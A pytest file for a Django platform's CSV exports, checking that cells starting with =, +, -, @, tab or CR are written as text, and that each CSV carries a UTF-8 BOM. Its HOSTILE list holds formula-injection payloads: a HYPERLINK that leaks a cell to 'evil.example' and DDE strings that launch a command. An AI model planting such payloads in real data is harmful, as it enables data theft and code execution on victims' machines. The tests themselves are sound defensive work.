"""Every CSV the platform writes: no cell a spreadsheet would run as a formula (OWASP), and UTF-8 with a BOM for Excel.

The CSVs are /calendar.csv (open data), /osr/metrics.csv (all figures, and one figure's drill-down with ?metric=) and
/progress/<quarter>.csv (an issued report). Each is fetched with text that starts like a formula in every column a
producer or an import controls, and every cell read back must start with none of = + - @ tab CR.
"""

import csv
import io

import pytest
from django.test import Client
from django.utils import timezone

from ehssg.spreadsheets import BOM, FORMULA_STARTS, csv_bytes, safe_cell
from progress import services as progress_services
from progress.models import ProgressReport
from progress.quarters import Quarter
from releases.models import Producer
from tests.factories import CancelledReleaseFactory, ConfirmedReleaseFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM.encode("utf-8")), "Excel needs the UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows: list[list[str]], *hostile: str) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for text in hostile:  # each hostile text is there, as text a person can still read
        assert "'" + text in cells, text


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("A&E attendances") == "A&E attendances"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None


def test_csv_bytes_has_a_bom_and_crlf_and_neutralises_every_cell():
    body = csv_bytes(["a", "=b"], [["Café – ok", "=1+1"]])
    assert body == BOM.encode() + "a,'=b\r\nCafé – ok,'=1+1\r\n".encode()


def test_calendar_csv_neutralises_formulas_in_every_text_column(cast):
    Producer.objects.filter(pk=cast.producer.pk).update(name=HOSTILE[0])
    ConfirmedReleaseFactory(
        lead_producer=cast.producer, title=HOSTILE[1], summary=HOSTILE[2], lead_statistician_name=HOSTILE[3],
        networks=[cast.network],
    )  # fmt: skip
    CancelledReleaseFactory(lead_producer=cast.producer, cancellation_reason=HOSTILE[4], title=HOSTILE[5])

    upcoming = rows_of(Client().get("/calendar.csv"))
    cancelled = rows_of(Client().get("/calendar.csv?tab=cancelled"))

    assert_no_formula(upcoming, *HOSTILE[:4])
    assert_no_formula(cancelled, HOSTILE[0], HOSTILE[4], HOSTILE[5])


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_osr_figures_csv_and_its_drilldown_neutralise_formulas(cast):
    Producer.objects.filter(pk=cast.producer.pk).update(name=HOSTILE[0], abbreviation=HOSTILE[4])
    Producer.objects.filter(pk=cast.other_producer.pk).update(name=HOSTILE[3], abbreviation=HOSTILE[5])
    for producer in (cast.producer, cast.other_producer):
        ConfirmedReleaseFactory(lead_producer=producer, networks=[cast.network])
        CancelledReleaseFactory(lead_producer=producer, networks=[cast.network])
    quarter = Quarter.containing(timezone.now()).key
    client = signed_in(cast.osr)

    every = rows_of(client.get(f"/osr/metrics.csv?quarter={quarter}&breakdown=producer"))
    one = rows_of(client.get(f"/osr/metrics.csv?quarter={quarter}&breakdown=producer&metric=cancellations"))

    labels = {row[5] for row in every[1:]} | {row[5] for row in one[1:]}
    assert labels & {"'" + HOSTILE[4], "'" + HOSTILE[5], "'" + HOSTILE[0], "'" + HOSTILE[3]}
    assert_no_formula(every)
    assert_no_formula(one)


def test_issued_report_csv_neutralises_formulas(cast):
    quarter = Quarter.containing(timezone.now()).previous()
    report = progress_services.report_draft(actor=cast.secretariat, quarter=quarter)
    report = progress_services.report_update_commentary(actor=cast.secretariat, report=report, commentary="Fine.")
    figures = report.figures  # frozen figures keep the names of the day: make them hostile
    metric = figures["metrics"][0]
    metric["title"] = HOSTILE[1]
    metric["by_producer"] = [{**metric["total"], "group": HOSTILE[2], "label": HOSTILE[0]}]
    ProgressReport.objects.filter(pk=report.pk).update(figures=figures)
    report = progress_services.report_issue(actor=cast.secretariat, report=report)

    rows = rows_of(Client().get(f"/progress/{report.quarter}.csv"))

    assert rows[0][:3] == ["quarter", "metric", "title"]
    assert_no_formula(rows, HOSTILE[0], HOSTILE[1], HOSTILE[2])
